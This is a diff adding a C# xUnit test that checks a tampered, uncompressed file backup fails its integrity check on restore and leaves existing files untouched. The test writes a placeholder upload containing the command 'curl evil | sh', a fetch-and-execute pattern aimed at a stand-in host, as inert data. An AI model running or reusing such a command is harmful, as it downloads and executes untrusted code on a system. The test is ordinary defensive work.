@@ -71,6 +71,28 @@ public sealed class FileBackupTests : IAsyncLifetime, IDisposable
     }
 
     [Fact]
+    public async Task FileBackupAlteredNearItsEnd_RestoresNothing_AndLeavesExistingFilesAlone()
+    {
+        // Plain and uncompressed, so the damage sits past the files' contents and only the final hash can catch it.
+        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
+        var service = provider.Service();
+        await File.WriteAllTextAsync(Path.Combine(Uploads, "payload.sh"), "curl evil | sh");
+        var backup = await service.CreateFileBackupAsync("uploads", new FileBackupOptions { Directories = [Uploads], Compress = false, Encrypt = false });
+        var path = Path.Combine(_store.Path, backup.Content!.Key);
+        var bytes = await File.ReadAllBytesAsync(path);
+        bytes[^10] ^= 1;
+        await File.WriteAllBytesAsync(path, bytes);
+        Directory.CreateDirectory(Path.Combine(_restored.Path, "uploads"));
+        await File.WriteAllTextAsync(Path.Combine(_restored.Path, "uploads", "readme.txt"), "kept");
+
+        await Assert.ThrowsAsync<BackupIntegrityException>(() => service.RestoreFilesAsync(backup.Id, new FileRestoreOptions { TargetDirectory = _restored.Path, Overwrite = FileOverwritePolicy.Overwrite }));
+
+        Assert.Equal(["uploads/readme.txt"], _restored.AllFiles());
+        Assert.Equal("kept", await File.ReadAllTextAsync(Path.Combine(_restored.Path, "uploads", "readme.txt")));
+        Assert.Equal(["uploads"], Directory.EnumerateFileSystemEntries(_restored.Path).Select(Path.GetFileName));
+    }
+
+    [Fact]
     public async Task FullBackupWithIncludeFiles_RestoresDatabaseAndFilesTogether()
     {
         using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
